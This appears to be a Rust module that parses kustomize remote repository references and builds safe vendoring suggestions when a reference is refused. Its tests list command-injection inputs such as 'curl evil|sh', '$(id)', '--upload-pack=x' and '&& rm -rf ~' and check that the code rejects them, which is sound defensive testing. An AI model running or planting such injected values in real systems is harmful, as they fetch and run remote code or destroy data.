//! References to other repositories, as kustomize reads them (`api/internal/git/repospec.go`), and what to say of one that is refused. Nothing is
//! fetched here: a reference leads to a mounted tree, or nowhere.

use hub_tree::{Mount, MountRefusal, Repository};

use crate::problem::Reason;

/// A reference to a directory of another repository.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Remote {
    /// What would be cloned.
    pub(crate) url: String,
    /// The directory in it; empty is its root.
    pub(crate) path: String,
    /// What would be checked out.
    pub(crate) reference: Option<String>,
}

/// The schemes that kustomize knows.
const SCHEMES: [&str; 4] = ["ssh://", "https://", "http://", "file://"];

impl Remote {
    /// The reference that `written` is. `None` if it can only be a path.
    pub(crate) fn parse(written: &str) -> Option<Self> {
        if written.starts_with('/') {
            return None;
        }
        let (address, query) = written.split_once('?').unwrap_or((written, ""));
        let (host, rest) = split_host(address)?;
        let (repository, path) = split_path(rest, host.starts_with("file://"))?;
        let path = path.strip_prefix('/').unwrap_or(path);
        let leaves = crate::origin::clean_join("", path);
        if repository.is_empty() || leaves == ".." || leaves.starts_with("../") {
            return None;
        }
        Some(Self { url: format!("{host}{repository}"), path: path.to_owned(), reference: reference_in(query) })
    }

    /// The tree that it means. `None` if it names one on the machine of whoever builds.
    pub(crate) fn mount(&self) -> Option<Mount> {
        Some(Mount::Repository { repository: Repository::parse(&self.url)?, reference: self.reference.clone() })
    }

    /// The commands that make a copy, and the name of the copy.
    fn vendor(&self) -> Option<(String, String)> {
        let name = self.url.trim_end_matches('/').rsplit(['/', ':']).next().map(|name| name.strip_suffix(".git").unwrap_or(name));
        let name = name.filter(|name| name.starts_with(|c: char| c.is_ascii_alphanumeric()))?;
        let copy = format!("vendor/{name}");
        let checkout = match &self.reference {
            Some(reference) if reference.starts_with('-') => return None,
            Some(reference) => format!(" && git -C /tmp/{name} checkout {reference}"),
            None => String::new(),
        };
        let directory = crate::origin::clean_join("", &self.path);
        let parts = [name, &self.url, &directory, self.reference.as_deref().unwrap_or_default()];
        if !parts.into_iter().all(is_harmless) || without_secret(&self.url) != self.url {
            return None;
        }
        let commands = format!("git clone {} /tmp/{name}{checkout} && mkdir -p vendor && cp -r /tmp/{name}/{directory} {copy}", self.url);
        Some((commands, copy))
    }
}

/// Whether a word can stand in a command that is shown to people, who may run it: what comes out of a repository must not become part of a
/// shell's language.
pub(crate) fn is_harmless(word: &str) -> bool {
    word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:@+,=%".contains(c))
}

/// What could be a file that is fetched by itself.
fn is_single_file(written: &str) -> bool {
    let is_http = ["https://", "http://"].iter().any(|scheme| written.starts_with(scheme));
    is_http && [".yaml", ".yml", ".json"].iter().any(|ending| written.ends_with(ending))
}

/// The refusal of `written`, with everything that can be done about it.
pub(crate) fn refusal(written: &str, refusal: &MountRefusal) -> Reason {
    let remote = Remote::parse(written);
    let vendor = match &remote {
        _ if is_single_file(written) => {
            let name = written.rsplit('/').next().unwrap_or_default();
            let is_good = is_harmless(written) && !name.starts_with('-') && without_secret(written) == written;
            vendor_text(is_good.then(|| (format!("curl -fsSL -o {name} {written}"), name.to_owned())))
        }
        Some(remote) => vendor_text(remote.vendor()),
        None => vendor_text(None),
    };
    let can_be_mounted = remote.as_ref().is_some_and(|remote| remote.mount().is_some()) && !is_single_file(written);
    let allow = "let the hub fetch it beforehand: its operator adds the repository, with this ref and `remoteBase: true`, to the sources of \
                 the hub's configuration";
    let why = match refusal {
        MountRefusal::NotOffered if can_be_mounted => format!("nothing is fetched while rendering. {vendor}; or {allow}"),
        MountRefusal::NotOffered => format!("nothing is fetched while rendering. {vendor}"),
        MountRefusal::OtherReference { .. } => format!("{refusal}. Write a ref that is fetched, or {allow}"),
        MountRefusal::NotPermitted { .. } => format!("{refusal}. {vendor}"),
        MountRefusal::NotFetched { .. } => refusal.to_string(),
    };
    Reason::Remote { reference: without_secret(written), why }
}

fn vendor_text(copy: Option<(String, String)>) -> String {
    match copy {
        Some((commands, name)) => format!("Vendor it: {commands}, and name {name} here"),
        None => "Vendor it: copy what it names into this repository and refer to the copy".to_owned(),
    }
}

/// The reference without a password: problems are shown to many.
fn without_secret(written: &str) -> String {
    let Some((scheme, rest)) = written.split_once("://") else { return written.to_owned() };
    let end = rest.find('/').unwrap_or(rest.len());
    match rest[..end].rsplit_once('@') {
        Some((user, host)) if user.contains(':') || scheme.starts_with("http") => format!("{scheme}://***@{host}{}", &rest[end..]),
        _ => written.to_owned(),
    }
}

/// What stands before the path of the repository, and the rest.
fn split_host(address: &str) -> Option<(String, &str)> {
    let address = strip_ignoring_case(address, "git::").unwrap_or(address);
    let (scheme, address) =
        SCHEMES.iter().find_map(|scheme| Some((*scheme, strip_ignoring_case(address, scheme)?))).unwrap_or(("", address));
    let (user, after_user) = match address.split_once('@') {
        Some((user, rest)) if is_user(user) => (&address[..=user.len()], rest),
        _ => ("", address),
    };
    let lower = after_user.get(..11).unwrap_or_default().to_ascii_lowercase();
    let is_github = lower == "github.com/" || lower == "github.com:";
    let is_scp = scheme.is_empty() && (!user.is_empty() || is_github);
    if scheme.is_empty() && !is_scp {
        return None;
    }
    if scheme == "file://" {
        return Some((scheme.to_owned(), address));
    }
    let slash = after_user.find('/');
    let colon = after_user.find(':').filter(|colon| *colon > 0);
    let separator = match (slash, colon) {
        (Some(slash), Some(colon)) if is_scp => Some(slash.min(colon)),
        (None, Some(colon)) if is_scp => Some(colon),
        (slash, _) => slash,
    }?;
    let (host, rest) = after_user.split_at(separator + 1);
    let whole = match is_github {
        true if scheme == "ssh://" || !user.is_empty() => format!("{user}github.com:"),
        true => "https://github.com/".to_owned(),
        false => format!("{scheme}{user}{host}"),
    };
    Some((whole, rest))
}

fn strip_ignoring_case<'t>(text: &'t str, prefix: &str) -> Option<&'t str> {
    text.get(..prefix.len()).filter(|start| start.eq_ignore_ascii_case(prefix)).map(|_| &text[prefix.len()..])
}

fn is_user(user: &str) -> bool {
    user.starts_with(|c: char| c.is_ascii_alphabetic()) && user.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
}

/// The repository's path and the path in it: by `_git/`, `//` or `.git`, else after two segments.
fn split_path(rest: &str, takes_all: bool) -> Option<(&str, &str)> {
    if let Some(at) = rest.find("_git/") {
        let end = at + "_git/".len();
        let name = rest[end..].find('/').unwrap_or(rest.len() - end);
        let (repository, path) = rest.split_at(end + name);
        return Some((repository, path.strip_prefix('/').unwrap_or(path)));
    }
    if let Some((repository, path)) = rest.split_once("//") {
        return Some((repository, path));
    }
    if let Some(at) = rest.find(".git") {
        return Some(rest.split_at(at + ".git".len()));
    }
    if takes_all {
        return Some((rest, ""));
    }
    let (organisation, more) = rest.split_once('/')?;
    let end = organisation.len() + 1 + more.find('/').unwrap_or(more.len());
    let (repository, path) = rest.split_at(end);
    Some((repository, path.strip_prefix('/').unwrap_or(path)))
}

/// `ref`, or else `version`, of the query.
fn reference_in(query: &str) -> Option<String> {
    let mut pairs = Vec::new();
    for pair in query.split('&').filter(|pair| !pair.is_empty()) {
        if pair.contains(';') {
            return None;
        }
        let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
        pairs.push((unescaped(key)?, unescaped(value)?));
    }
    let first = |name: &str| pairs.iter().find(|(key, _)| key == name).map(|(_, value)| value.clone()).filter(|value| !value.is_empty());
    first("ref").or_else(|| first("version"))
}

fn unescaped(text: &str) -> Option<String> {
    let mut out = Vec::with_capacity(text.len());
    let mut bytes = text.bytes();
    while let Some(byte) = bytes.next() {
        match byte {
            b'+' => out.push(b' '),
            b'%' => {
                let digit =
                    |byte: Option<u8>| byte.and_then(|byte| char::from(byte).to_digit(16)).and_then(|digit| u8::try_from(digit).ok());
                out.push(digit(bytes.next())? << 4 | digit(bytes.next())?);
            }
            byte => out.push(byte),
        }
    }
    String::from_utf8(out).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn references_are_taken_apart_as_kustomize_does() {
        let none: Option<&str> = None;
        for (written, url, path, reference) in [
            ("https://github.com/org/repo", "https://github.com/org/repo", "", none),
            ("https://github.com/org/repo/deploy/eu?ref=v1", "https://github.com/org/repo", "deploy/eu", Some("v1")),
            ("https://github.com/org/repo//deploy?ref=main&timeout=90s", "https://github.com/org/repo", "deploy", Some("main")),
            ("https://github.com/org/repo.git/deploy?version=v2", "https://github.com/org/repo.git", "deploy", Some("v2")),
            ("github.com/org/repo/deploy?ref=v1&version=v2", "https://github.com/org/repo", "deploy", Some("v1")),
            ("GitHub.com/org/repo", "https://github.com/org/repo", "", none),
            ("git::https://git.example.com/a/b//c", "https://git.example.com/a/b", "c", none),
            ("https://git.example.com/a/b/c/d.git//e", "https://git.example.com/a/b/c/d.git", "e", none),
            ("git@github.com:org/repo.git//deploy?ref=v1", "git@github.com:org/repo.git", "deploy", Some("v1")),
            ("git@git.example.com:org/repo", "git@git.example.com:org/repo", "", none),
            ("ssh://git@git.example.com:2222/org/repo.git/x", "ssh://git@git.example.com:2222/org/repo.git", "x", none),
            ("ssh://git@github.com/org/repo", "git@github.com:org/repo", "", none),
            ("https://me@dev.azure.com/org/project/_git/repo/a/b", "https://me@dev.azure.com/org/project/_git/repo", "a/b", none),
            ("https://github.com/org/repo?ref=release%2F1.0", "https://github.com/org/repo", "", Some("release/1.0")),
            ("https://github.com/org/repo?ref=%zz", "https://github.com/org/repo", "", none),
            ("file:///srv/git/repo", "file:///srv/git/repo", "", none),
        ] {
            let remote = Remote::parse(written).unwrap_or_else(|| panic!("{written}"));
            assert_eq!((remote.url.as_str(), remote.path.as_str(), remote.reference.as_deref()), (url, path, reference), "{written}");
        }
        for path in [
            "",
            "..",
            "../base",
            "base",
            "gitlab.com/a/b",
            "/srv/x",
            "https://",
            "https://h",
            "https://github.com/org",
            "https://h/a/b//../../x",
            "ftp://h/a/b",
        ] {
            assert_eq!(Remote::parse(path), None, "{path}");
        }
    }

    #[test]
    fn a_command_that_is_shown_is_never_more_than_it_seems() {
        let said = |written: &str| refusal(written, &MountRefusal::NotOffered).to_string();
        assert!(said("https://github.com/org/repo/deploy?ref=v1").contains(
            "git clone https://github.com/org/repo /tmp/repo && git -C /tmp/repo checkout v1 && mkdir -p vendor && cp -r /tmp/repo/deploy vendor/repo, and name vendor/repo here"
        ));
        for hostile in [
            "https://h/a/b;curl evil|sh?ref=v1",
            "https://h/a/b?ref=$(id)",
            "https://h/a/b?ref=--upload-pack=x",
            "https://h/a/-rf",
            "https://h/a/b//x && rm -rf ~",
            "https://h/a/b//`id`",
            "https://h/a/b//x\nid",
            "https://h/$(id)/x.yaml",
        ] {
            let said = said(hostile);
            assert!(said.contains("Vendor it: copy what it names") && !said.contains("git clone") && !said.contains("curl -f"), "{said}");
        }
        assert!(said("https://h/x/y.yaml").contains("curl -fsSL -o y.yaml https://h/x/y.yaml, and name y.yaml here"));
        let secret = said("https://me:hunter2@h/a/b?ref=v1");
        assert!(!secret.contains("hunter2") && secret.contains("https://***@h/a/b?ref=v1"), "{secret}");
    }
}
